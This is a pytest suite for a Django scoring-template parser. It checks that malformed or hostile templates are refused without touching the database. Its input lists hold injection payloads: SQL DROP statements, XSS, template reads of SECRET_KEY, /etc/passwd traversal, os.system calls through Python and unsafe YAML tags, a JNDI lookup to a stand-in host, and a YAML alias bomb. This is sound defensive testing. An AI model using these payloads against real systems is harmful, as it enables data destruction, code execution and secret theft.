"""Documents written to do harm change nothing but the list of problems; hostile words that are words stay words."""

import time
from collections.abc import Iterator
from typing import Any

import pytest
from django.db.backends.utils import CursorWrapper
from django_tenants.utils import schema_context

from shared_apps.scoring_templates import messages
from shared_apps.scoring_templates.evaluation import evaluate
from shared_apps.scoring_templates.rules import checks, customisation, document, pointers
from tests import government
from tests.shared_apps.scoring_templates import examples

Plain = dict[str, Any]
TALENT = "talent_national_2025"
WORDS = [
    "'; DROP SCHEMA public CASCADE; --", '"; DELETE FROM audit_change; --', "$$ SELECT pg_sleep(9) $$",
    "%s %(k_0)s %%",
    "{0.__class__.__mro__}", "{name!r:>99999999}", "{% load x %}{{ settings.SECRET_KEY }}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "=HYPERLINK(\"http://x.example\")", "@SUM(1+1)", "../../../etc/passwd",
    "__import__('os').system('id')", "${jndi:ldap://x.example}", "\\", "\u202eterbalik", "ａｎｇｋａ", "𝔘𝔫𝔦",
    "a\u0301" * 40,
    "nilai\tdengan\nbaris",
]  # fmt: skip
KEYS = [
    'a"b', "a;b", "a b", "a'--", "a%(k_0)s", "a%", "a.b", "a/b", "a~1b", "A", "ä", "1a", "_a", "", "a" * 41,
    "a\n", "а",
    "select 1", "__class__", "*",
]  # fmt: skip
VALUES: list[Any] = [
    "'; DROP TABLE x; --", "1; SELECT 1", "1e9", "NaN", "Infinity", "0x10", "１", "--1", 0.1, True, [], {}, ["1"],
    {"$gt": 0}, "9" * 13, "0.0000001", "1 OR 1=1", "%(k_0)s", "2026-02-30", "\u0661",
]  # fmt: skip
NUMBERS = [
    "/nodes/performance/inputs/awards_points/weight", "/nodes/training_points/bands/b4/from", "/rounding/decimals",
    "/nodes/training_points/bands/b4/points", "/measures/tenure/min",
    "/ratings/performance_level/cuts/above/value",
]  # fmt: skip
NAMES = [
    "/measures/awards/scale", "/measures/awards/type", "/measures/awards/missing", "/nodes/training_points/input",
    "/nodes/performance/kind", "/ratings/performance_level/cuts/above/comparator",
    "/matrices/talent_box/axes/potential",
]  # fmt: skip
KEYED = ["/measures", "/nodes", "/ratings", "/matrices", "/gates", "/recommendations", "/scales", "/profiles"]
TEXTS = ["/title/id", "/title/en", "/note", "/nodes/performance/title/id", "/nodes/performance/clause"]


def changed(path: str, value: Any) -> Plain:
    """The national template with one thing put into it."""
    plain = examples.data(TALENT)
    *parents, last = pointers.split(path) or ()
    inner = plain
    for step in parents:
        inner = inner.setdefault(step, {})
    inner[last] = value
    return plain


def hostile_values() -> Iterator[tuple[str, Plain]]:
    """What is no number where a number belongs, and no name where a name does."""
    for path in NUMBERS:
        yield from ((f"{path}={value!r}", changed(path, value)) for value in VALUES)
    for path in NAMES:
        yield from ((f"{path}={word!r}", changed(path, word)) for word in WORDS)


def hostile_keys() -> Iterator[tuple[str, Plain]]:
    """A key that would be an identifier, if anybody let it."""
    for section in KEYED:
        for key in KEYS:
            plain = examples.data(TALENT)
            part = next(iter(plain.get(section[1:], {}).values()), {})
            plain.setdefault(section[1:], {})[key] = part
            yield f"{section}/{key!r}", plain


def hostile_texts() -> list[str]:
    """What is wrong before it is a document."""
    good = "format: 1\nkey: x\n"
    laughs = "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9))
    return [
        "", " ", "---", "...", "null", "[]", "1", "{", "}", "[" * 3000, "{" * 3000, "a: " * 500, "- " * 3000,
        "\t", "\ufeff",
        "\x00", "a: \x07", "a: \ud800".encode("utf-8", "replace").decode(), "%YAML 9.9\n---\na: 1",
        "%TAG ! tag:x,2000:\n--- !a b",
        "a: &a 1\nb: *a", laughs, "a: !!python/object/apply:os.system [id]", "a: !!python/name:os.system",
        "a: !!binary aGk=",
        "a: !!timestamp 2026-01-01", "<<: {a: 1}\na: 2\na: 3", "a: 1\na: 1", "? {a: 1}\n: 2", "? [1]\n: 2",
        good + good,
        "key: !include /etc/passwd", "x" * 1_000_001, "a: |\n" + "  x\n" * 5 + " y", "a:\n\t- b", "a: 'x",
        'a: "\\x"',
        "\n".join(f"k{n}: 1" for n in range(2000)) + "\nk1: 2", "a: b: c", "@x", "`x`", "a: %", "? a\n? a",
        "!<x> a",
    ]  # fmt: skip


def everything() -> dict[str, dict[str, str]]:
    """Every row of every table of host and regions."""
    found = {}
    for schema in ("public", "north", "south"):
        with schema_context(schema):
            found[schema] = government.everything_in(schema)
    return found


@pytest.fixture
def nothing_changes(cursor: CursorWrapper) -> Iterator[None]:
    """The same tables and columns, and the same rows in all of them, templates or not."""

    def standing() -> list[object]:
        cursor.execute("SELECT count(*), max(oid) FROM pg_class")
        return cursor.fetchall()

    before, rows = standing(), everything()
    assert min(map(len, rows.values())) > 20
    yield
    assert standing() == before
    assert everything() == rows


def test_they_are_many() -> None:
    documents = [*hostile_values(), *hostile_keys()]
    assert len(documents) + len(hostile_texts()) + len(TEXTS) * len(WORDS) >= 500
    assert len({name for name, _plain in documents}) == len(documents)


def refused_in_words(name: str, plain: Plain) -> bool:
    """Nothing but problems, each with a text; the time is bounded."""
    begun = time.monotonic()
    template, problems = document.parse(plain)
    if template is not None:
        problems = checks.check(template, as_scheme=False)
    assert time.monotonic() - begun < 5, name
    assert all(messages.line_of(problem) for problem in problems), name
    return bool(problems)


def test_what_is_no_number_and_no_name_is_refused(nothing_changes: None) -> None:
    assert [name for name, plain in hostile_values() if not refused_in_words(name, plain)] == []


def test_a_hostile_key_is_refused_in_every_section(nothing_changes: None) -> None:
    assert [name for name, plain in hostile_keys() if not refused_in_words(name, plain)] == []


def test_hostile_writing_is_refused_or_no_document(nothing_changes: None) -> None:
    for text in hostile_texts():
        template, problems = document.read_yaml(text)
        assert template is None, text[:40]
        assert problems, text[:40]
        assert all(messages.line_of(problem) for problem in problems), text[:40]


@pytest.mark.parametrize("path", TEXTS)
def test_hostile_words_in_a_title_are_words_and_nothing_else(
    path: str, nothing_changes: None, cursor: CursorWrapper
) -> None:
    vectors = examples.vectors(TALENT)[:3]
    cases = [vector.case for vector in vectors]
    expected = evaluate(cursor, examples.scheme(TALENT), cases)
    for word in WORDS:
        plain = changed(path, word)
        template = examples.parsed(plain)
        assert checks.check(template, as_scheme=False) == []
        assert document.calculation_hash(template) == document.calculation_hash(examples.template(TALENT))
        overrides = examples.customised(TALENT).model_copy(update={"content_hash": None})
        scheme = customisation.resolve(template, overrides).scheme
        assert scheme is not None
        assert evaluate(cursor, scheme, cases) == expected


def test_a_hostile_customisation_gives_problems_alone(nothing_changes: None) -> None:
    paths = ["", "/", "//", "/nodes", "/nodes/performance", "/nodes/*/inputs/*/weight", "/~", "/~2", "/nodes/\x00",
             "/results/0", "/key", "/customisation/paths", "/measures/awards/__class__",
             "/nodes/performance/inputs/awards_points/weight",
             "/measures/local_x'; DROP TABLE x", "/nodes/local_" + "y" * 60,
             *(f"/{word}" for word in WORDS)]  # fmt: skip
    template = examples.template(TALENT)
    tried = 0
    for path in paths:
        for value in VALUES:
            plain = {"format": 1, "template": TALENT, "version": template.version, "content_hash": None,
                     "overrides": [{"path": path, "value": value, "reason": "uji"}]}  # fmt: skip
            found, problems = customisation.parse(plain)
            if found is not None:
                resolution = customisation.resolve(template, found)
                assert resolution.scheme is None, (path, value)
                problems = list(resolution.problems)
            assert problems, (path, value)
            tried += 1
    assert tried >= 200
